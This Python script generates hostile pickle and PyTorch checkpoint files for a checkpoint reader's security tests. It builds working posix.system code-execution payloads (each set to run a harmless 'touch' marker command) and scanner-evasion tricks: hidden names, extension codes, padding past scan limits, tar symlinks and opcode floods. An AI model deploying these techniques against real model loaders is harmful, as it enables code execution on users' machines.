#!/usr/bin/env python3
"""Hostile pickles for the checkpoint reader's security tests (pickle_*.sh).

Every payload calls posix.system (os.system) with `touch MARKER`: were one
ever unpickled, the marker file would appear, and the tests assert that it
does not. Nothing here unpickles a payload. `assert_live` replays each
pickle through an Unpickler whose find_class hands back a recorder instead
of the real callable: that shows pickle.load would reach posix.system with
the command, without running it.

    pickle_payloads.py protocols DIR MARKER  every protocol x form x container
    pickle_payloads.py padding DIR MARKER    data.pkl past the 256 MiB scan limit (sparse files)
    pickle_payloads.py memory DIR MARKER     millions of one-byte opcodes, deflated
    pickle_payloads.py seeds DIR             fuzz seeds into DIR/pickle and DIR/checkpoint (tests/fuzz/seeds)

`protocols` prints one line per file: NAME EXPECTED, where EXPECTED is the
text the MPS964 message must contain.
"""
import copyreg
import io
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

MAGIC = 0x1950A86A20F9469CFC6C  # torch.serialization.MAGIC_NUMBER
EXTENSION_CODE = 240
STOP, MARK, POP, TUPLE, REDUCE = pickle.STOP, pickle.MARK, pickle.POP, pickle.TUPLE, pickle.REDUCE


def header(protocol, body):
    """PROTO (protocol 2 on), and a FRAME round the body (protocol 4 on), as pickle.dumps writes them."""
    if protocol < 2:
        return body
    proto = pickle.PROTO + bytes([protocol])
    if protocol < 4:
        return proto + body
    return proto + pickle.FRAME + struct.pack("<Q", len(body)) + body


def text(value, protocol):
    """A str push, spelled as a pickler of that protocol spells strings."""
    raw = value.encode()
    if protocol == 0:
        return b"V" + value.encode("raw_unicode_escape") + b"\n"
    if protocol == 1:
        return pickle.BINSTRING + struct.pack("<I", len(raw)) + raw
    if protocol == 2:
        return pickle.SHORT_BINSTRING + bytes([len(raw)]) + raw
    if protocol == 3:
        return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw
    return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw


def hidden_name(value, protocol):
    """A module or attribute name that does not appear in the bytes as written."""
    if protocol == 0:  # S'\x70osix': a Python bytes literal with escapes
        return b"S'" + "".join("\\x%02x" % ord(c) for c in value).encode() + b"'\n"
    if protocol == 1:  # V\u0070osix: raw-unicode-escape
        return b"V" + "".join("\\u%04x" % ord(c) for c in value).encode() + b"\n"
    return text(value, protocol)


def memo_put(index, protocol):
    if protocol == 0:
        return b"p%d\n" % index
    if protocol < 3:
        return pickle.BINPUT + bytes([index])
    if protocol == 3:
        return pickle.LONG_BINPUT + struct.pack("<I", index)
    return pickle.MEMOIZE


def memo_get(index, protocol):
    if protocol == 0:
        return b"g%d\n" % index
    if protocol in (1, 2, 4):
        return pickle.BINGET + bytes([index])
    return pickle.LONG_BINGET + struct.pack("<I", index)


def named_callable(module, name, protocol):
    if protocol < 4:
        return pickle.GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"
    return text(module, protocol) + text(name, protocol) + pickle.STACK_GLOBAL


class System:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def reduce_form(command, protocol):
    """Python's own pickler: GLOBAL (STACK_GLOBAL on memoized names from protocol 4) + REDUCE."""
    return pickle.dumps(System(command), protocol=protocol)


def inst_form(command, protocol):
    return header(protocol, MARK + text(command, protocol) + pickle.INST + b"posix\nsystem\n" + STOP)


def obj_form(command, protocol):
    return header(protocol, MARK + named_callable("posix", "system", protocol) + text(command, protocol) +
                  pickle.OBJ + STOP)


def memo_form(command, protocol):
    """Names pushed, memoized and popped, then fetched back for STACK_GLOBAL."""
    return header(protocol, hidden_name("posix", protocol) + memo_put(0, protocol) + POP +
                  hidden_name("system", protocol) + memo_put(1, protocol) + POP +
                  memo_get(0, protocol) + memo_get(1, protocol) + pickle.STACK_GLOBAL +
                  MARK + text(command, protocol) + TUPLE + REDUCE + STOP)


def extension_form(command, protocol):
    """EXT1: the callable comes from copyreg's extension registry."""
    return header(protocol, pickle.EXT1 + bytes([EXTENSION_CODE]) + MARK + text(command, protocol) + TUPLE +
                  REDUCE + STOP)


def computed_form(command, protocol):
    """STACK_GLOBAL on names returned by builtins.str: no literal names the callable."""
    def call_str(value):
        return pickle.GLOBAL + b"builtins\nstr\n" + MARK + text(value, protocol) + TUPLE + REDUCE
    return header(protocol, call_str("posix") + call_str("system") + pickle.STACK_GLOBAL + MARK +
                  text(command, protocol) + TUPLE + REDUCE + STOP)


FORMS = {"reduce": reduce_form, "inst": inst_form, "obj": obj_form, "memo": memo_form,
         "ext": extension_form, "computed": computed_form}
EXPECTED = {"ext": "copyreg extension code %d" % EXTENSION_CODE, "computed": "STACK_GLOBAL on computed names"}


class RecordingUnpickler(pickle.Unpickler):
    """Resolves only harmless builtins; any other callable becomes a recorder."""
    harmless = {("builtins", "str"), ("builtins", "dict"), ("collections", "OrderedDict")}

    def __init__(self, data):
        super().__init__(io.BytesIO(data))
        self.calls = []

    def find_class(self, module, name):
        if (module, name) in self.harmless:
            return super().find_class(module, name)

        def record(*args):
            self.calls.append((module, name, args))
            return 0
        return record

    def persistent_load(self, pid):
        return pid


def assert_live(data, command):
    """pickle.load would call posix.system(command): checked without calling it."""
    unpickler = RecordingUnpickler(data)
    copyreg.add_extension("posix", "system", EXTENSION_CODE)
    try:
        unpickler.load()
    finally:
        copyreg.remove_extension("posix", "system", EXTENSION_CODE)
    assert ("posix", "system", (command,)) in unpickler.calls, (data, unpickler.calls)


def write(path, data):
    with open(path, "wb") as out:
        out.write(data)


def torch_zip(path, pickles, first_archive="archive"):
    """torch.save's zip layout: <archive>/data.pkl, byteorder, version."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in pickles:
            archive.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
        archive.writestr(zipfile.ZipInfo(first_archive + "/version", date_time=(1980, 1, 1, 0, 0, 0)), b"3\n")


def legacy_sequence(payload, protocol):
    """torch.save before 1.6: magic number, protocol version, sys info, objects, storage keys."""
    return (pickle.dumps(MAGIC, protocol=protocol) + pickle.dumps(1001, protocol=protocol) +
            pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=protocol) + payload +
            pickle.dumps([], protocol=protocol))


def legacy_tar(path, members, links=()):
    """torch.save before 0.4: a tar (PAX format, as torch wrote it) of sys_info, storages, tensors, pickle."""
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, target in links:
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            archive.addfile(info)


def tar_members(protocol, storages=None, objects=None):
    empty_storages = pickle.dumps(0, protocol=protocol) + pickle.dumps([], protocol=protocol)
    return [("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=protocol)),
            ("storages", storages if storages is not None else empty_storages),
            ("tensors", pickle.dumps(0, protocol=protocol)),
            ("pickle", objects if objects is not None else pickle.dumps({}, protocol=protocol))]


def protocols(directory, marker):
    command = "touch " + marker
    for protocol in range(6):
        for form, build in FORMS.items():
            payload = build(command, protocol)
            assert_live(payload, command)
            expected = EXPECTED.get(form, "posix.system")
            stem = "p%d_%s" % (protocol, form)
            write(os.path.join(directory, stem + "_plain.pt"), payload)
            write(os.path.join(directory, stem + "_legacy.ckpt"), legacy_sequence(payload, protocol))
            torch_zip(os.path.join(directory, stem + "_zip.pt"), [("archive/data.pkl", payload)])
            legacy_tar(os.path.join(directory, stem + "_tar.pth"), tar_members(protocol, objects=payload))
            for suffix in ("_plain.pt", "_legacy.ckpt", "_zip.pt", "_tar.pth"):
                print(stem + suffix, expected)
    payload = reduce_form(command, 2)
    benign = pickle.dumps({"epoch": 3}, protocol=2)
    # The first storage record of a tar, which torch unpickles first.
    storages = pickle.dumps(1, protocol=2) + payload
    legacy_tar(os.path.join(directory, "tar_storages.pth"), tar_members(2, storages=storages))
    # A tar whose `pickle` is a symlink to another member: torch's extractfile follows it.
    members = [member for member in tar_members(2) if member[0] != "pickle"] + [("zzz", payload)]
    legacy_tar(os.path.join(directory, "tar_symlink.pth"), members, links=[("pickle", "zzz")])
    # Two data.pkl: torch reads the one in the first entry's folder; a reader
    # that picked the shortest name would see only the benign one.
    torch_zip(os.path.join(directory, "zip_two_data.pt"), [("evil/data.pkl", payload), ("data.pkl", benign)],
              first_archive="evil")
    for name in ("tar_storages.pth", "tar_symlink.pth", "zip_two_data.pt"):
        print(name, "posix.system")


def sparse_zip(path, claimed_size, prefix, data_size=None, suffix=b""):
    """A zip with one stored archive/data.pkl that claims `claimed_size` bytes.
    Its data is `prefix`, then (when `data_size` is given) zeros and `suffix`
    up to `data_size` bytes: the zeros are a hole in a sparse file, so the
    test stays cheap."""
    name = b"archive/data.pkl"
    crc = zlib.crc32(prefix)
    if data_size is not None:
        zeros = bytes(1 << 20)
        remaining = data_size - len(prefix) - len(suffix)
        while remaining > 0:
            crc = zlib.crc32(zeros[:min(remaining, len(zeros))], crc)
            remaining -= len(zeros)
        crc = zlib.crc32(suffix, crc)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, claimed_size, claimed_size, len(name), 0)
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc, claimed_size, claimed_size,
                          len(name), 0, 0, 0, 0, 0, 0) + name
    with open(path, "wb") as out:
        out.write(local + name + prefix)
        if data_size is not None:
            out.seek(len(local) + len(name) + data_size - len(suffix))
            out.write(suffix)
        directory_at = out.tell()
        out.write(central)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), directory_at, 0))


def padding(directory, marker):
    command = "touch " + marker
    payload = reduce_form(command, 2)
    assert_live(payload, command)
    big = 300 << 20
    # The central directory claims 300 MiB; the file holds only the payload.
    sparse_zip(os.path.join(directory, "claims_300mib.pt"), big, payload)
    # A real 300 MiB entry: the payload, then zeros the unpickler never reads.
    sparse_zip(os.path.join(directory, "padded_after_stop.pt"), big, payload, big)

    # The GLOBAL first, then bytes inside the pickle (BINBYTES8), then the
    # call: the callable is named before the scan limit and called after it.
    def opened(length):
        return header(2, pickle.GLOBAL + b"posix\nsystem\n" + pickle.BINBYTES8 + struct.pack("<Q", length))
    closing = POP + MARK + text(command, 2) + TUPLE + REDUCE + STOP
    assert_live(opened(16) + bytes(16) + closing, command)
    size = len(opened(big)) + big + len(closing)
    sparse_zip(os.path.join(directory, "padded_inside.pt"), size, opened(big), size, closing)
    # The same as a plain pickle on disk, the tail written after the hole.
    with open(os.path.join(directory, "padded_plain.pt"), "wb") as out:
        out.write(opened(big))
        out.seek(size - len(closing))
        out.write(closing)


def memory(directory, marker):
    """19.9 million one-byte opcodes in a deflated data.pkl of a few kB each,
    ending in a posix.system call."""
    command = "touch " + marker
    count = 19_900_000
    tail_named = pickle.GLOBAL + b"posix\nsystem\n" + MARK + text(command, 2) + TUPLE + REDUCE + STOP
    tail_stacked = named_callable("posix", "system", 4) + MARK + text(command, 4) + TUPLE + REDUCE + STOP
    cases = {
        "lists.pt": header(2, pickle.EMPTY_LIST * count + tail_named),
        # The stack stays one deep: only the values grow.
        "appends.pt": header(2, pickle.EMPTY_LIST + (pickle.EMPTY_LIST + pickle.APPEND) * (count // 2) + tail_named),
        "marks.pt": header(2, MARK * count + tail_named),
        "memo.pt": b"\x80\x04" + (pickle.NONE + pickle.MEMOIZE) * (count // 2) + tail_named,
        "stacked.pt": b"\x80\x04" + pickle.NONE * count + tail_stacked,
    }
    for name, data in cases.items():
        path = os.path.join(directory, name)
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            archive.writestr(zipfile.ZipInfo("archive/data.pkl", date_time=(1980, 1, 1, 0, 0, 0)), data,
                             compress_type=zipfile.ZIP_DEFLATED)
        print(name, os.path.getsize(path))


def seeds(directory):
    """Fuzz seeds (tests/fuzz/seeds): per protocol, a state-dict-like pickle
    and each hostile form (pickle/); the containers around them (checkpoint/)."""
    command = "touch /nonexistent"
    pickles = os.path.join(directory, "pickle")
    containers = os.path.join(directory, "checkpoint")
    os.makedirs(pickles, exist_ok=True)
    os.makedirs(containers, exist_ok=True)
    for protocol in range(6):
        state = {"model": {"fc.weight": [0.5, 1.5], "fc.bias": (1, 2)}, "epoch": 3, "name": "run",
                 "flags": {True, None}, "big": 1 << 70, "raw": b"\x00\x01"}
        write(os.path.join(pickles, "state_p%d.pkl" % protocol), pickle.dumps(state, protocol=protocol))
        for form, build in FORMS.items():
            write(os.path.join(pickles, "%s_p%d.pkl" % (form, protocol)), build(command, protocol))
        write(os.path.join(containers, "legacy_p%d.pt" % protocol),
              legacy_sequence(pickle.dumps(state, protocol=protocol), protocol))
    legacy_tar(os.path.join(containers, "tar_p2.pth"), tar_members(2, objects=memo_form(command, 2)))


def main():
    mode, directory = sys.argv[1], sys.argv[2]
    os.makedirs(directory, exist_ok=True)
    if mode == "seeds":
        seeds(directory)
    else:
        {"protocols": protocols, "padding": padding, "memory": memory}[mode](directory, sys.argv[3])


if __name__ == "__main__":
    main()
